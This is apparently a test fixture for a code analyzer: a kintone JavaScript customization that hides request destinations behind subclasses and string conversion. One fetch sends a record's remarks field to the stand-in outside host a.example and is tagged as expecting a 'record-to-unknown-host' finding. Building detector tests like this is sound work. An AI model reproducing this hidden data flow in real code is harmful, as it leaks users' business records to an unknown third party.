// Where a request goes, said in roundabout ways: by the class that is made, by what an object is as a text.
class Sent extends XMLHttpRequest {
  constructor(address) {
    super();
    this.open('POST', address);
  }
  deliver(body) {
    super.send(JSON.stringify(body));
  }
}
class Kept extends Sent {
  static get address() {
    return kintone.api.url('/k/v1/record/comment.json', true);
  }
  constructor() {
    super(new.target.address);
  }
}
class Words {
  #pairs = [];
  add(name, value) {
    this.#pairs.push(`${name}=${encodeURIComponent(value)}`);
    return this;
  }
  [Symbol.toPrimitive]() {
    return this.#pairs.join('&');
  }
}
class Found {
  constructor(base) {
    this.base = base;
    this.words = new Words();
  }
  toString() {
    return `${this.base}?${this.words}`;
  }
}
class Other {
  #pairs = [];
  constructor(base) {
    this.base = base;
  }
  add(name, value) {
    this.#pairs.push(`${name}=${encodeURIComponent(value)}`);
    return this;
  }
  toString() {
    return `${this.base}?${this.#pairs.join('&')}`;
  }
}
kintone.events.on('app.record.detail.show', (event) => {
  new Kept().deliver({ app: 1, text: event.record.備考.value });
  const own = new Found(kintone.api.url('/k/v1/records.json', true));
  own.words.add('query', event.record.備考.value);
  fetch(own);
  const other = new Other('https://a.example/find').add('q', event.record.備考.value);
  fetch(other); // expect: record-to-unknown-host
  return event;
});
